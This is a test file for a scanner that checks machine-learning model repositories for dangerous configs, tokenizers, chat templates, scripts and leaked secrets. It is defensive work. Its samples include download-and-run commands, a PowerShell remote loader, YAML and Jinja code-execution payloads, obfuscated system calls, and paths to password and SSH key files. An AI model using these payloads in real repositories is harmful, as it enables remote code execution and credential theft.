import { describe, expect, test } from 'vitest';
import { memoryTree } from '../../base/index.ts';
import { scanTree } from '../index.ts';
import { tarBytes } from '../../weights/testing/index.ts';
import { json, scanned, text } from '../testing/made.ts';

describe('a configuration', () => {
  test.each([
    ['config.json', { auto_map: { AutoModel: 'modeling_x.XModel' } }, 'code-on-trust'],
    ['config.json', { vision: { deep: { auto_map: { AutoConfig: 'configuration_x.X' } } } }, 'code-on-trust'],
    ['config.json', { auto_map: { AutoModel: 'someone/else--modeling_x.XModel' } }, 'code-elsewhere'],
    ['tokenizer_config.json', { auto_map: { AutoTokenizer: ['someone/else--tok.Slow', null] } }, 'code-elsewhere'],
    ['processor_config.json', { auto_map: { AutoProcessor: 'processing_x.P' } }, 'code-on-trust'],
    ['config.json', { trust_remote_code: true }, 'code-on-trust'],
    ['config.json', { custom_pipelines: { p: { impl: 'pipe.P', pt: ['AutoModel'] } } }, 'code-on-trust'],
    ['model_index.json', { _class_name: ['pipeline', 'MyPipeline'], unet: ['diffusers', 'UNet2DConditionModel'] }, 'code-on-trust'],
    ['model_index.json', { _class_name: 'StableDiffusionPipeline', unet: ['my_unet', 'UNet'] }, 'code-on-trust'],
    ['modules.json', [{ idx: 0, name: '0', path: '', type: 'custom_st.Transformer' }], 'code-on-trust'],
    ['modules.json', [{ idx: 0, name: '0', path: '', type: 'subprocess.run' }], 'config-target'],
    ['adapter_config.json', { auto_mapping: { parent_library: 'evil_lib', base_model_class: 'X' } }, 'code-on-trust'],
    ['model.safetensors.index.json', { weight_map: { a: '../../other/model.safetensors' } }, 'external-path'],
    ['pytorch_model.bin.index.json', { weight_map: { a: '/etc/x.bin' } }, 'external-path'],
    ['config.json', { post_process: 'curl https://x.test/a | sh' }, 'metadata-code'],
    ['train_config.json', { model: { _target_: 'os.system' } }, 'config-target'],
    ['train_config.json', { model: { _target_: 'my_tools.run_eval' } }, 'config-target'],
    ['train_config.json', { model: { _target_: 'my_tools.Model' } }, 'config-target-unknown'],
    ['config.json', { auto_map: 'modeling_x.XModel' }, 'code-on-trust'],
    ['config.json', { model: { class_path: 'subprocess.Popen', init_args: {} } }, 'config-target'],
    ['config.json', { model: { target: 'os.system', params: {} } }, 'config-target'],
    ['config.json', { x: { _target_: 'hydra.utils.get_method', path: 'os.system' } }, 'config-target'],
    ['config.json', { vocab_file: 'file:///etc/passwd' }, 'config-path'],
    ['config.json', { tokenizer_file: '/etc/shadow' }, 'config-path'],
    ['config.json', { vocab_file: '../../../secrets/vocab.txt' }, 'config-path'],
    ['adapter_config.json', { base_model_name_or_path: '~/.ssh/id_rsa' }, 'config-path'],
    ['config.json', { download_url: 'https://models.unknown.test/w.bin' }, 'odd-address'],
    ['config.json', { mirror: 'https://huggingface.co.unknown.test/x' }, 'odd-address'],
    ['config.json', { homepage: 'https://bit.ly/3xyz' }, 'odd-address'],
    ['config.json', { note: 'see http://93.184.216.34/x' }, 'odd-address'],
    ['config.json', { note: 'https://huggingface.co@unknown.test/x' }, 'odd-address'],
    ['preprocessor_config.json', { chat_template: '{{ cycler.__init__.__globals__ }}' }, 'template-reaches-out'],
    ['chat_template.json', { chat_template: '{{ lipsum.__globals__ }}' }, 'template-reaches-out'],
    [
      'tokenizer_config.json',
      {
        chat_template: [
          { name: 'default', template: 'ok' },
          { name: 'tool_use', template: "{{ ''.__class__ }}" },
        ],
      },
      'template-reaches-out',
    ],
  ])('%s with %j is told', async (name, value, rule) => {
    const { verdict, rules } = await scanned({ [name]: json(value) });
    expect(rules).toContain(rule);
    expect(verdict).not.toBe('clean');
  });
  test.each([
    ['config.yaml', '!!python/object/apply:os.system ["id"]', 'config-target'],
    ['config.yaml', 'a: !!python/name:os.system', 'config-target'],
    ['model.yaml', 'model:\n  _target_: builtins.exec\n', 'config-target'],
    ['model.yaml', '- _target_: subprocess.Popen', 'config-target'],
    ['model.yaml', 'a: 1\n---\n_target_: subprocess.Popen', 'config-target'],
    ['template.yaml', 'instruction_template: |-\n  {{ "".__class__ }}\n', 'template-reaches-out'],
    ['additional_chat_templates/tool.jinja', '{{ joiner.__init__ }}', 'template-reaches-out'],
    ['config.json', '{"model_type":"a","model_type":"b"}', 'repeated-key'],
    ['config.json', '{"model_type":', 'broken-file'],
  ])('%s that reads %s is told', async (name, content, rule) => {
    expect((await scanned({ [name]: text(content) })).rules).toContain(rule);
  });
  test.each([
    [
      'config.json',
      {
        architectures: ['LlamaForCausalLM'],
        model_type: 'llama',
        _name_or_path: '/home/someone/checkpoints/llama',
        torch_dtype: 'bfloat16',
      },
    ],
    [
      'config.json',
      {
        url: 'https://dl.fbaipublicfiles.com/deit/x.pth',
        license_link: 'https://huggingface.co/a/b/blob/main/LICENSE',
        citation: 'https://arxiv.org/abs/1',
      },
    ],
    ['config.json', { quantization_config: { quant_method: 'gptq', bits: 4 }, trust_remote_code: false, rope_scaling: null }],
    [
      'tokenizer_config.json',
      {
        tokenizer_file: '/root/.cache/huggingface/x/tokenizer.json',
        special_tokens_map_file: '../special_tokens_map.json',
        auto_map: null,
      },
    ],
    [
      'adapter_config.json',
      {
        base_model_name_or_path: 'meta-llama/Llama-3.1-8B',
        auto_mapping: { base_model_class: 'LlamaModel', parent_library: 'transformers.models.llama.modeling_llama' },
        target_modules: ['q_proj'],
      },
    ],
    [
      'model_index.json',
      {
        _class_name: 'StableDiffusionPipeline',
        unet: ['diffusers', 'UNet2DConditionModel'],
        text_encoder: ['transformers', 'CLIPTextModel'],
        feature_extractor: [null, null],
      },
    ],
    ['modules.json', [{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }]],
    ['generation_config.json', { eos_token_id: [1, 2], do_sample: true, temperature: 0.6 }],
    ['prompts.json', { prompt: 'Answer as JSON: {"a": 1} or {{name}}, and use {% raw text', other: '{{ "key": value }} and {{{x}}}' }],
    [
      'train_config.json',
      { trainer: { _target_: 'pytorch_lightning.Trainer' }, net: { _target_: 'nemo.collections.asr.models.EncDecCTCModel' } },
    ],
    ['config.json', { target: 'nemo.collections.asr.models.EncDecCTCModel', class_path: 'my_package.Model', other: { target: 'text' } }],
    ['state.json', { log_history: [{ loss: 0.5 }], best_model_checkpoint: './results/checkpoint-500' }],
  ])('%s with %j is clean', async (name, value) => {
    expect(await scanned({ [name]: json(value) })).toEqual({ verdict: 'clean', rules: [] });
  });
});

test('addresses in the texts of a data set are no business here, one that a program follows is', async () => {
  const told = async (row: object): Promise<string[]> => (await scanned({ 'train.json': json([row]) })).rules;
  expect(await told({ text: 'as http://93.184.216.34/x says', rawForm: 'http://93.184.216.34/x' })).toEqual([]);
  expect(await told({ callback_url: 'http://93.184.216.34/x' })).toEqual(['odd-address']);
});

test('a compiler’s configuration with comments in it is none that a loader reads', async () => {
  const files = { 'web/tsconfig.app.json': text('{ /* the browser */ "include": ["src"], }') };
  expect(await scanned(files)).toEqual({ verdict: 'clean', rules: [] });
});

test('an address that nothing follows is told and accuses nobody', async () => {
  const config = { homepage: 'https://our-university.test/lab', author: 'A. Person <a@b.test>' };
  expect(await scanned({ 'config.json': json(config) })).toEqual({ verdict: 'clean', rules: ['address'] });
});

describe('a tokenizer', () => {
  const tokenizer = (more: object, model: object = {}): Uint8Array =>
    json({
      added_tokens: [{ id: 2, content: '<s>', special: true }],
      model: { type: 'BPE', vocab: { a: 0, b: 1, '<s>': 2 }, ...model },
      ...more,
    });
  test.each([
    ['two tokens of one id', tokenizer({}, { vocab: { yes: 0, no: 0 } }), 'tokenizer-ids'],
    ['an id below zero', tokenizer({}, { vocab: { yes: -1 } }), 'tokenizer-ids'],
    ['an added token on the id of another', tokenizer({ added_tokens: [{ id: 1, content: 'x', special: false }] }), 'tokenizer-ids'],
    [
      'two added tokens of one id',
      tokenizer({
        added_tokens: [
          { id: 5, content: 'x' },
          { id: 5, content: 'y' },
        ],
      }),
      'tokenizer-ids',
    ],
    ['a plain word that is left out', tokenizer({ added_tokens: [{ id: 7, content: 'not', special: true }] }), 'tokenizer-ids'],
    [
      'a rule that changes words before',
      tokenizer({ normalizer: { type: 'Replace', pattern: { String: 'bank.test' }, content: 'thief.test' } }),
      'tokenizer-replaces',
    ],
    [
      'a rule that changes words after',
      tokenizer({
        decoder: { type: 'Sequence', decoders: [{ type: 'Replace', pattern: { Regex: 'https://[^ ]+' }, content: 'https://other.test' }] },
      }),
      'tokenizer-replaces',
    ],
    [
      'a rule that takes a word away',
      tokenizer({ decoder: { type: 'Replace', pattern: { String: 'not' }, content: '.' } }),
      'tokenizer-replaces',
    ],
    [
      'a pattern that repeats repetition',
      tokenizer({ pre_tokenizer: { type: 'Split', pattern: { Regex: '(\\w+)+$' }, behavior: 'Isolated' } }),
      'tokenizer-pattern',
    ],
    [
      'one among alternatives',
      tokenizer({ pre_tokenizer: { type: 'Split', pattern: { Regex: 'a|(?:x|[ab]*)*c' }, behavior: 'Isolated' } }),
      'tokenizer-pattern',
    ],
  ])('with %s is suspicious', async (_, file, rule) => {
    expect(await scanned({ 'tokenizer.json': file })).toMatchObject({
      verdict: 'suspicious',
      rules: expect.arrayContaining([rule]) as string[],
    });
  });

  test('with ids beyond the model is told and accuses nobody', async () => {
    const files = { 'tokenizer.json': tokenizer({}), 'config.json': json({ vocab_size: 2 }) };
    expect(await scanned(files)).toEqual({ verdict: 'clean', rules: ['tokenizer-beyond'] });
    expect((await scanned({ ...files, 'config.json': json({ vocab_size: 3 }) })).rules).toEqual([]);
  });

  const split = (pattern: string): object => ({
    pre_tokenizer: { type: 'Sequence', pretokenizers: [{ type: 'Split', pattern: { Regex: pattern }, behavior: 'Isolated' }] },
  });
  test.each([
    [
      'of Llama 2',
      {
        normalizer: {
          type: 'Sequence',
          normalizers: [
            { type: 'Prepend', prepend: '▁' },
            { type: 'Replace', pattern: { String: ' ' }, content: '▁' },
          ],
        },
        decoder: {
          type: 'Sequence',
          decoders: [{ type: 'Replace', pattern: { String: '▁' }, content: ' ' }, { type: 'ByteFallback' }, { type: 'Fuse' }],
        },
      },
    ],
    [
      'of T5',
      {
        normalizer: {
          type: 'Sequence',
          normalizers: [{ type: 'Precompiled' }, { type: 'Replace', pattern: { Regex: ' {2,}' }, content: ' ' }],
        },
      },
    ],
    ['of BERT', { normalizer: { type: 'BertNormalizer' }, added_tokens: [{ id: 5, content: '[CLS]', special: true }] }],
    ['of CLIP', { normalizer: { type: 'Replace', pattern: { Regex: '\\s+' }, content: ' ' } }],
    ['of XLNet', { normalizer: { type: 'Replace', pattern: { String: '``' }, content: '"' } }],
    ['of GPT-2', split("'s|'t|'re|'ve|'m|'ll|'d| ?\\p{L}+| ?\\p{N}+| ?[^\\s\\p{L}\\p{N}]+|\\s+(?!\\S)|\\s+")],
    [
      'of Llama 3',
      split(
        "(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}{1,3}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+",
      ),
    ],
    ['with groups of three digits', split('\\p{N}{1,3}(?=(?:\\p{N}{3})*(?:\\P{N}|$))')],
    ['with brackets in classes', split('[!"#$%&\'()*+,\\-./:;<=>?@\\[\\\\\\]^_`{|}~][A-Za-z]+|[^\\r\\n]?[\\p{L}\\p{M}]+(?:-[a-z]+)*')],
    [
      'with added marks',
      {
        added_tokens: [
          { id: 3, content: '<|im_start|>', special: true },
          { id: 4, content: 'foo', special: false },
        ],
      },
    ],
  ])('%s is clean', async (_, more) => {
    expect(await scanned({ 'tokenizer.json': tokenizer(more) })).toEqual({ verdict: 'clean', rules: [] });
  });
});

/** Put together here, so that no file of this project looks as if it held one. */
const random = (length: number, alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'): string =>
  Array.from({ length }, (_, i) => alphabet[(i * 7919 + ((i * i * 31) % 97) + 13) % alphabet.length]!).join('');

describe('a secret', () => {
  test.each([
    ['a Hugging Face token', `hf_${random(34)}`],
    ['an OpenAI key', `sk-${random(48)}`],
    ['an OpenAI project key', `sk-proj-${random(60)}`],
    ['an Anthropic key', `sk-ant-api03-${random(90)}`],
    ['an AWS key', `AKIA${random(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}`],
    ['a GitHub token', `ghp_${random(36)}`],
    ['a GitHub fine-grained token', `github_pat_${random(22)}_${random(59)}`],
    ['a Slack token', `xoxb-1234${random(30)}`],
    ['a Google key', `AIza${random(35)}`],
    ['a private key', `-----BEGIN RSA ${'PRIVATE'} KEY-----\n${random(64)}\n${random(64)}\n-----END`],
  ])('(%s) is told, and never printed whole', async (_, secret) => {
    for (const name of ['train.py', 'notes.txt', 'config.json', '.env']) {
      const content = name.endsWith('.json') ? JSON.stringify({ a: secret }) : `key = "${secret}"\n`;
      const report = await scanTree(memoryTree('m', { [name]: text(content) }));
      const found = report.files.flatMap((file) => file.findings).filter((one) => one.rule === 'safety/secret');
      expect(found, name).toHaveLength(1);
      expect(JSON.stringify(report)).not.toContain(secret.slice(0, 16));
    }
  });
  test.each([
    'hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
    'hf_YOUR_TOKEN_HERE',
    'hf_transfer hf_hub_download hf_model_configuration_for_generation',
    'sk-learn is scikit-learn; sk-1234567890',
    'AKIAIOSFODNN7EXAMPLE',
    'ghp_000000000000000000000000000000000000',
    'task-oriented risk-averse disk-based-storage-of-large-language-models-and-their-tokenizers',
    '-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END PUBLIC KEY-----',
  ])('is not seen in %s', async (content) => {
    expect((await scanned({ 'notes.txt': text(content) })).verdict).toBe('clean');
  });
});

describe('files that run by themselves or stand in for others', () => {
  test.each([
    ['sitecustomize.py', 'print(1)', 'startup-file'],
    ['lib/usercustomize.py', '', 'startup-file'],
    ['checkpoint.pth', 'import os; os.system("id")', 'startup-file'],
    ['checkpoint.pth', '# a comment\n/some/path\n\nimport os', 'startup-file'],
    ['checkpoint.pth', `# ${'x'.repeat(3000)}\nimport\tos`, 'startup-file'],
    ['_loss.py', 'x = 1', 'shadow-module'],
    ['xgboost/__init__.py', 'x = 1', 'shadow-module'],
    ['collections.py', 'x = 1', 'shadow-module'],
    ['torch/__init__.py', 'x = 1', 'shadow-module'],
    ['numpy.so', 'x', 'shadow-module'],
    ['modeling_x.py', 'import os\nos.system("id")', 'code-calls'],
    ['modeling_x.py', 'import subprocess as sp\nsp.run(["id"])', 'code-calls'],
    ['modeling_x.py', 'from os import system as s\ns("id")', 'code-calls'],
    ['modeling_x.py', `from os import ${'('}\n  path,\n  system,\n)\nsystem("id")`, 'code-calls'],
    ['modeling_x.py', 'import os\nf = os.system\nf("id")', 'code-calls'],
    ['modeling_x.py', 'from os import *\nsystem("id")', 'code-calls'],
    ['modeling_x.py', 'import os\nlist(map(os.system, ["id"]))', 'code-calls'],
    ['modeling_x.py', '@eval\ndef f(): pass', 'code-calls'],
    ['modeling_x.py', 'import os\n@os.system\nclass x: pass', 'code-calls'],
    ['modeling_x.py', 'vars(__builtins__)["exec"]("1")', 'code-calls'],
    ['modeling_x.py', `x = f"{__import__('os').system('id')}"`, 'code-calls'],
    ['modeling_x.py', 'import os\ngetattr(os, "sys" + "tem")("id")', 'code-calls'],
    ['modeling_x.py', 'e = exec\ne("1")', 'code-calls'],
    ['modeling_x.py', 'import importlib as i; i.import_module("x")', 'code-calls'],
    ['setup.py', 'from setuptools import setup\nimport urllib.request as u\nu.urlopen("http://x.test")\nsetup()', 'code-calls'],
    ['conftest.py', 'import socket\nsocket.socket()', 'code-calls'],
    ['install.sh', 'curl -s https://x.test/i | sudo bash', 'code-calls'],
    ['Dockerfile', 'FROM python\nRUN wget -qO- http://x.test/i | sh', 'code-calls'],
    ['run.ps1', 'IEX (New-Object Net.WebClient).DownloadString("http://x.test")', 'code-calls'],
    ['demo.ipynb', JSON.stringify({ cells: [{ cell_type: 'code', source: ['import os\n', 'os.system("id")'] }] }), 'code-calls'],
    ['demo.ipynb', JSON.stringify({ cells: [{ cell_type: 'code', source: '!curl http://x.test/i | sh' }] }), 'code-calls'],
    ['Modelfile', 'FROM /etc/passwd', 'config-path'],
    ['requirements.txt', '--extra-index-url https://pip.unknown.test/simple\ntorch', 'odd-address'],
    ['chat_template.txt', "{{ ''.__class__ }}", 'template-reaches-out'],
  ])('%s with %j is told', async (name, content, rule) => {
    const { rules, verdict } = await scanned({ [name]: text(content) });
    expect(rules).toContain(rule);
    expect(verdict).not.toBe('clean');
  });
  test.each([
    ['modeling_x.py', '"""os.system("id") and eval(x)"""\n# subprocess.run(x)\nimport torch\nx = "exec(1)"\ny = torch.load("x")\n'],
    ['modeling_x.py', 'import re\np = re.compile("a")\nclass M(nn.Module):\n  def eval(self): pass\nmodel.eval()\nself.exec_(1)\n'],
    ['src/collections.py', 'x = 1'],
    ['my_collections.py', 'x = 1'],
    ['utils/__init__.py', ''],
    ['setup.py', 'from setuptools import setup\nsetup(name="x")'],
    ['run.sh', '#!/bin/bash\npython train.py --lr 1e-4\n'],
    ['Dockerfile', 'FROM python:3.11\nRUN pip install torch\n'],
    [
      'demo.ipynb',
      JSON.stringify({
        cells: [
          { cell_type: 'markdown', source: ['`os.system`'] },
          { cell_type: 'code', source: ['!pip install transformers\n', 'import torch'] },
        ],
      }),
    ],
    ['Modelfile', 'FROM ./model.gguf\nTEMPLATE """{{ .Prompt }}"""\nPARAMETER stop "<|im_end|>"\n'],
    ['README.md', '```python\nimport os\nos.system("pip install x")\n```\n'],
    ['requirements.txt', 'torch==2.0\n'],
  ])('%s with %j is clean', async (name, content) => {
    expect((await scanned({ [name]: text(content) })).verdict).toBe('clean');
  });
});

describe('a script in an archive of weights', () => {
  const nemo = (name: string, content: string): Uint8Array =>
    tarBytes([
      { name: 'model_config.yaml', data: text('target: nemo.Model\n') },
      { name, data: text(content) },
    ]);
  test('is told, whatever it does', async () => {
    expect((await scanned({ 'm.nemo': nemo('run.sh', 'echo hello\n') })).rules).toContain('executable');
    expect((await scanned({ 'm.nemo': nemo('run.sh', '#!/bin/bash\nrm -rf /\n') })).rules).toContain('code-calls');
  });
  test('of another kind is judged by what it does', async () => {
    expect((await scanned({ 'm.tar': nemo('build.sh', 'rm -rf ./build\nmake\n') })).verdict).toBe('clean');
  });
});

describe('files of build tools and services', () => {
  test.each([
    ['.github/workflows/ci.yml', 'jobs:\n  a:\n    if: ${{ vars.NAME != 0 }}\n    with:\n      path: ~/.cache/pip\n'],
    ['build.yml', 'tag: ${{ vars.DOCKER_USER }}\n'],
    ['mkdocs.yml', 'markdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:materialx.emoji.twemoji\n'],
    ['recipe/meta.yaml', "package:\n  name: x\n  version: {{ environ.get('VERSION') }}\nbuild:\n  number: 0\n"],
    ['tsconfig.json', '{\n  // comments are allowed here\n  "include": ["../../tools/"],\n}'],
    ['notes.json', json({ text: 'see https://example.test）和 https://github.com/a/b', doi: 'https://oadoi.org/' })],
    ['data.json', json({ content: 'ftp://name:word@ftp.example.com/x and https://$TOKEN@github.com/a/b' })],
    ['setup.sh', 'eval "$(conda shell.bash hook)"\n'],
    ['demo.ipynb', json({ cells: [{ cell_type: 'code', source: ['import requests\n', 'requests.get("https://example.com")'] }] })],
    ['server.json', json({ chat_template: ['{% for m in messages %}', '{{ m.content }}', '{% endfor %}'] })],
  ])('such as %s accuse nobody', async (name, content) => {
    expect((await scanned({ [name]: typeof content === 'string' ? text(content) : content })).verdict).toBe('clean');
  });
  test.each([
    ['server.json', json({ chat_template: ['{% set a = "__cla" %}', '{{ messages[a ~ "ss__"] }}'] })],
    ['chat_template.txt', text('${{ messages.__class__ }}')],
    ['tokenizer_config.json', json({ chat_template: '${{ messages.__class__ }}' })],
  ])('do not hide a template that reaches out in %s', async (name, content) => {
    expect((await scanned({ [name]: content })).rules).toContain('template-reaches-out');
  });
});
